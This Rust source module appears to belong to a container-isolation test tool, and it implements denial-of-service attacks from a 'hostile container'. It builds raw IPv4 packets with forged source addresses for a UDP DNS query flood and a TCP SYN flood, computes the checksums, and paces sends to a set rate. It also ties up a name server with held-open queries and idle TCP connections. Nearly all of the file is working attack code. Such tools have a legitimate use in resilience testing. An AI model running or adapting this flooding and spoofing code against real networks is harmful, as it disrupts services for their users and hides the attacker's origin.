//! What a hostile container does to its neighbours: floods under forged addresses (Docker gives containers NET_RAW), and
//! questions and connections that are held for as long as they may be.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::fd::{AsRawFd, OwnedFd};
use std::thread;
use std::time::{Duration, Instant};

use nix::sys::socket::{AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket};

use super::{Stop, dns};

/// IPv4 protocol numbers.
const TCP: u8 = 6;
const UDP: u8 = 17;
/// How often a flood sends a part of what a second has.
const TICK: Duration = Duration::from_millis(10);
/// How long a question is held before it is asked anew, in a server's place who is silent for ever.
const HELD: Duration = Duration::from_secs(2);

/// Whom, and with how much.
#[derive(Debug, Clone, clap::Args)]
pub struct Attack {
    /// The name server, `ADDRESS:PORT`, for all that is about DNS.
    #[arg(long)]
    pub server: SocketAddrV4,
    /// Questions under forged addresses, a second.
    #[arg(long, default_value_t = 0)]
    pub forged: u32,
    /// Questions that are left open all the time.
    #[arg(long, default_value_t = 0)]
    pub open: usize,
    /// The silent server for those.
    #[arg(long)]
    pub silent: Option<SocketAddrV4>,
    /// Connections to the name server that are held and say nothing.
    #[arg(long, default_value_t = 0)]
    pub idle: usize,
    /// A service, `NAME:PORT`.
    #[arg(long)]
    pub service: Option<String>,
    /// SYNs to it under forged addresses, a second.
    #[arg(long, default_value_t = 0)]
    pub syns: u32,
    /// The network of forged addresses, as the first two bytes; every third address is of anywhere.
    #[arg(long, default_value = "172.17")]
    pub network: String,
}

impl Attack {
    /// Goes on until told to stop.
    ///
    /// # Errors
    /// When a raw socket is refused, or the service's name is not known.
    pub fn run(self, stop: &Stop) -> io::Result<()> {
        let service = match &self.service {
            Some(name) => name.to_socket_addrs()?.find_map(|address| match address {
                SocketAddr::V4(address) => Some(address),
                SocketAddr::V6(_) => None,
            }),
            None => None,
        };
        let (a, b) = self.network.split_once('.').ok_or_else(|| io::Error::other("no network"))?;
        let network = [a, b].map(|byte| byte.parse::<u8>().unwrap_or(10));
        let raw = || -> io::Result<OwnedFd> {
            Ok(socket(AddressFamily::Inet, SockType::Raw, SockFlag::empty(), Some(SockProtocol::Raw))?)
        };
        thread::scope(|scope| {
            let floods = [
                (self.forged > 0).then_some((self.forged, self.server, UDP)),
                service.filter(|_| self.syns > 0).map(|service| (self.syns, service, TCP)),
            ];
            for (rate, target, protocol) in floods.into_iter().flatten() {
                let socket = raw()?;
                scope.spawn(move || flood(&socket, rate, target, protocol, network, stop));
            }
            if let Some(silent) = self.silent.filter(|_| self.open > 0) {
                scope.spawn(move || hold_questions(silent, self.open, stop));
            }
            if self.idle > 0 {
                scope.spawn(|| hold_connections(self.server.into(), self.idle, stop));
            }
            io::Result::Ok(())
        })
    }
}

fn flood(socket: &OwnedFd, rate: u32, target: SocketAddrV4, protocol: u8, network: [u8; 2], stop: &Stop) {
    let (begun, mut sent, mut chance) = (Instant::now(), 0_u64, Chance(u64::from(protocol) + 1));
    while !stop.requested() {
        let due = begun.elapsed().as_millis() as u64 * u64::from(rate) / 1000;
        while sent < due {
            let bytes = chance.next().to_be_bytes();
            let [a, b, c, d, e, f, ..] = bytes;
            let source = if sent % 3 == 0 { [a % 200 + 20, b, c, d] } else { [network[0], network[1], c, d] };
            let source = SocketAddrV4::new(source.into(), u16::from_be_bytes([e, f]) | 1024);
            let packet = if protocol == TCP { syn(source, target, c) } else { question(source, target, bytes) };
            // What does not go now is one less.
            let _ = sendto(socket.as_raw_fd(), &packet, &SockaddrIn::from(target), MsgFlags::empty());
            sent += 1;
        }
        thread::sleep(TICK);
    }
}

fn hold_questions(server: SocketAddrV4, open: usize, stop: &Stop) {
    let ask = |turn: usize| -> io::Result<UdpSocket> {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.send_to(&dns::query((turn % 65_536) as u16, "silent.zoo.test", 1), server)?;
        Ok(socket)
    };
    while !stop.requested() {
        let held: Vec<_> = (0..open).map(ask).collect();
        wait(HELD, stop);
        drop(held);
    }
}

fn hold_connections(server: SocketAddr, idle: usize, stop: &Stop) {
    let mut held: Vec<TcpStream> = Vec::new();
    while !stop.requested() {
        held.retain(|stream| {
            let closed = stream.set_nonblocking(true).is_err() || matches!(stream.peek(&mut [0]), Ok(0));
            !closed
        });
        while held.len() < idle && !stop.requested() {
            match TcpStream::connect_timeout(&server, Duration::from_secs(1)) {
                Ok(stream) => held.push(stream),
                Err(_) => break,
            }
        }
        wait(Duration::from_millis(100), stop);
    }
}

fn wait(time: Duration, stop: &Stop) {
    let until = Instant::now() + time;
    while Instant::now() < until && !stop.requested() {
        thread::sleep(Duration::from_millis(20));
    }
}

/// Numbers that look random (xorshift).
struct Chance(u64);

impl Chance {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

fn question(from: SocketAddrV4, to: SocketAddrV4, chance: [u8; 8]) -> Vec<u8> {
    let [id, other, ..] = chance;
    let message = dns::query(u16::from_be_bytes([id, other]), &format!("x{id}.outside.test"), 1);
    let length = (message.len() + 8) as u16;
    let head = [from.port(), to.port(), length, 0].map(u16::to_be_bytes).concat();
    packet(UDP, *from.ip(), *to.ip(), &[head, message].concat())
}

fn syn(from: SocketAddrV4, to: SocketAddrV4, chance: u8) -> Vec<u8> {
    let ports = [from.port(), to.port()].map(u16::to_be_bytes).concat();
    let rest = [&[chance, 1, 2, 3, 0, 0, 0, 0, 0x50, 2, 0xff, 0xff, 0, 0, 0, 0][..]].concat();
    let mut segment = [ports, rest].concat();
    let pseudo =
        [&from.ip().octets()[..], &to.ip().octets(), &[0, TCP], &(segment.len() as u16).to_be_bytes(), &segment];
    let sum = checksum(&pseudo.concat());
    segment.splice(16..18, sum.to_be_bytes());
    packet(TCP, *from.ip(), *to.ip(), &segment)
}

/// With its header, whose checksum the kernel fills in (raw(7)).
fn packet(protocol: u8, from: Ipv4Addr, to: Ipv4Addr, data: &[u8]) -> Vec<u8> {
    let [high, low] = ((20 + data.len()) as u16).to_be_bytes();
    let head = [0x45, 0, high, low, 0, 0, 0, 0, 64, protocol, 0, 0];
    [&head[..], &from.octets(), &to.octets(), data].concat()
}

/// RFC 1071.
fn checksum(bytes: &[u8]) -> u16 {
    let word =
        |pair: &[u8]| u32::from(pair.first().copied().unwrap_or(0)) << 8 | u32::from(pair.get(1).copied().unwrap_or(0));
    let mut sum: u32 = bytes.chunks(2).map(word).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_segment_adds_up_with_its_addresses() {
        let (from, to) = ("10.1.2.3:4000".parse().unwrap(), "240.240.0.7:80".parse().unwrap());
        let packet = syn(from, to, 9);
        let pseudo = [&packet[12..20], &[0, TCP, 0, 20], &packet[20..]].concat();
        assert_eq!((packet.len(), checksum(&pseudo)), (40, 0));
    }
}
